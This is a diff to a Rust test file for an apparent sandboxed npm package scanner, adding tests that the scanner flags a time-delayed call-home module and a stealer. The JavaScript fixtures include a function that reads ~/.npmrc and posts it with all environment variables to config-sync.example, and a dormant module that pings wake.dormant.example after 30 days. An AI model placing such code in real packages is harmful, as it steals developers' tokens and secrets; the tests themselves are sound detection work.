@@ -368,7 +368,12 @@ fn an_honest_package_stays_clean_and_the_host_stays_hidden() {
     assert_eq!(code, 0, "stderr: {stderr}\n{report:#}");
     let run = &report["dynamic"];
     let phases = run["phases"].as_array().cloned().unwrap_or_default();
-    assert_eq!(phases.len(), 2, "{run:#}");
+    let names: Vec<&str> = phases.iter().filter_map(|p| p["name"].as_str()).collect();
+    assert_eq!(
+        names,
+        ["install", "import", "import-later", "execute"],
+        "{run:#}"
+    );
     for phase in &phases {
         assert_eq!(phase["status"], "completed", "{phase:#}");
         assert_eq!(phase["exit_code"], 0, "{phase:#}");
@@ -1016,4 +1021,187 @@ fn attempts_to_escape_leave_the_host_as_it_was() {
             "{path} not recorded: {files:#?}"
         );
     }
+}
+
+/// A dormant payload: the first import notes the date; once 30 days have gone by, the
+/// import calls home.
+const DORMANT_MODULE: &str = r#"const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const stamp = path.join(os.homedir(), '.cache', 'quiet-logger', 'first-run');
+let first = Date.now();
+try { first = Number(fs.readFileSync(stamp, 'utf8')); }
+catch (e) { try { fs.mkdirSync(path.dirname(stamp), { recursive: true }); fs.writeFileSync(stamp, String(first)); } catch (e2) {} }
+if (Date.now() - first > 30 * 24 * 3600 * 1000) {
+  const req = require('https').request({ hostname: 'wake.dormant.example', path: '/ping', method: 'POST' }, (res) => res.resume());
+  req.on('error', () => {});
+  req.end(os.hostname());
+}
+module.exports = (message) => console.log(message);
+"#;
+
+/// The honest shape of a date check: data that says it is old, and a cache in the
+/// package's own folder refreshed when stale.
+const STALE_NOTICE_MODULE: &str = r#"const fs = require('fs');
+const path = require('path');
+const cache = path.join(__dirname, 'cache.json');
+let built = Date.now();
+try { built = JSON.parse(fs.readFileSync(cache, 'utf8')).built; }
+catch (e) { fs.writeFileSync(cache, JSON.stringify({ built })); }
+if (Date.now() - built > 60 * 24 * 3600 * 1000) {
+  console.warn('region-data: the bundled data is more than 60 days old; update the package');
+  fs.writeFileSync(cache, JSON.stringify({ built: Date.now() }));
+}
+module.exports = { regions: ['eu', 'us'] };
+"#;
+
+#[test]
+fn a_time_bomb_shows_itself_when_the_clock_moves_ahead() {
+    if !sandbox_tests_enabled("a_time_bomb_shows_itself_when_the_clock_moves_ahead") {
+        return;
+    }
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("quiet-logger", "1.0.0")
+            .file("index.js", DORMANT_MODULE)
+            .build(),
+    );
+    registry.publish(
+        PackageBuilder::new("region-data", "1.0.0")
+            .file("index.js", STALE_NOTICE_MODULE)
+            .build(),
+    );
+    let report = scan_dynamic(&registry, &[], "quiet-logger@1.0.0");
+    let run = &report["dynamic"];
+    let later = run["phases"]
+        .as_array()
+        .and_then(|phases| phases.iter().find(|p| p["name"] == "import-later"))
+        .unwrap_or_else(|| {
+            panic!(
+                "no time-bomb pass (is libfaketime installed?): {:#}",
+                run["sandbox"]
+            )
+        });
+    assert_eq!(later["clock_offset_days"], 400);
+    // Today the import is quiet; a year ahead it calls home.
+    let import = run["phases"]
+        .as_array()
+        .and_then(|phases| phases.iter().find(|p| p["name"] == "import"))
+        .expect("an import phase");
+    assert!(
+        import["dns"]
+            .as_array()
+            .is_none_or(|dns| dns.iter().all(|q| q["name"] != "wake.dormant.example")),
+        "{import:#}"
+    );
+    assert!(
+        texts(
+            later["dns"].as_array().map_or(&[][..], Vec::as_slice),
+            "name"
+        )
+        .iter()
+        .any(|n| n == "wake.dormant.example"),
+        "{later:#}"
+    );
+    let rules = rule_ids(&report);
+    assert!(rules.iter().any(|r| r == "DSCA1013"), "{rules:?}");
+
+    let honest = scan_dynamic(&registry, &[], "region-data@1.0.0");
+    let later = honest["dynamic"]["phases"]
+        .as_array()
+        .and_then(|phases| phases.iter().find(|p| p["name"] == "import-later"))
+        .expect("the time-bomb pass ran");
+    assert!(
+        later["stderr_tail"]
+            .as_str()
+            .is_some_and(|tail| tail.contains("more than 60 days old")),
+        "the clock did not move: {later:#}"
+    );
+    assert!(
+        !rule_ids(&honest).iter().any(|r| r.starts_with("DSCA10")),
+        "{honest:#}"
+    );
+}
+
+/// A config loader whose exported function, once called, sends the npm token and the
+/// environment away. Loading it does nothing.
+const CALLED_STEALER_MODULE: &str = r#"exports.load = function load() {
+  const fs = require('fs');
+  const os = require('os');
+  let npmrc = '';
+  try { npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'); } catch (e) {}
+  const req = require('https').request({ hostname: 'config-sync.example', path: '/v1', method: 'POST' }, (res) => res.resume());
+  req.on('error', () => {});
+  req.end(JSON.stringify({ npmrc, env: process.env }));
+  return {};
+};
+"#;
+
+/// Honest exports: string helpers and a class that keeps a map.
+const HONEST_EXPORTS_MODULE: &str = r#"exports.slugify = (text = '') => String(text).toLowerCase().replace(/[^a-z0-9]+/g, '-');
+exports.titleCase = (text = '') => String(text).replace(/\b\w/g, (c) => c.toUpperCase());
+exports.Registry = class Registry { constructor() { this.items = new Map(); } };
+exports.loadLocal = async () => JSON.parse(require('fs').readFileSync(require('path').join(__dirname, 'package.json'), 'utf8'));
+"#;
+
+#[test]
+fn an_exported_function_that_steals_is_caught_when_the_execute_phase_calls_it() {
+    if !sandbox_tests_enabled(
+        "an_exported_function_that_steals_is_caught_when_the_execute_phase_calls_it",
+    ) {
+        return;
+    }
+    let registry = TestRegistry::start();
+    registry.publish(
+        PackageBuilder::new("env-config-loader", "1.0.0")
+            .file("index.js", CALLED_STEALER_MODULE)
+            .build(),
+    );
+    registry.publish(
+        PackageBuilder::new("text-kit", "1.0.0")
+            .file("index.js", HONEST_EXPORTS_MODULE)
+            .build(),
+    );
+    let report = scan_dynamic(&registry, &[], "env-config-loader@1.0.0");
+    let run = &report["dynamic"];
+    let execute = run["phases"]
+        .as_array()
+        .and_then(|phases| phases.iter().find(|p| p["name"] == "execute"))
+        .unwrap_or_else(|| panic!("no execute phase: {:#}", run["phases"]));
+    assert!(
+        execute["stdout_tail"]
+            .as_str()
+            .is_some_and(|out| out.contains("called env-config-loader.load")),
+        "{execute:#}"
+    );
+    let hosts = texts(
+        execute["http"].as_array().map_or(&[][..], Vec::as_slice),
+        "host",
+    );
+    assert!(
+        hosts.iter().any(|h| h == "config-sync.example"),
+        "{hosts:?}"
+    );
+    let rules = rule_ids(&report);
+    assert!(rules.iter().any(|r| r == "DSCA1009"), "{rules:?}");
+    assert_eq!(report["verdict"]["level"], "malicious", "{rules:?}");
+
+    let honest = scan_dynamic(&registry, &[], "text-kit@1.0.0");
+    let execute = honest["dynamic"]["phases"]
+        .as_array()
+        .and_then(|phases| phases.iter().find(|p| p["name"] == "execute"))
+        .expect("an execute phase");
+    let out = execute["stdout_tail"].as_str().unwrap_or_default();
+    for called in [
+        "text-kit.slugify",
+        "text-kit.Registry",
+        "text-kit.loadLocal",
+    ] {
+        assert!(out.contains(&format!("called {called}")), "{out}");
+    }
+    assert!(
+        !rule_ids(&honest).iter().any(|r| r.starts_with("DSCA10")),
+        "{honest:#}"
+    );
+    assert_ne!(honest["verdict"]["level"], "malicious");
 }
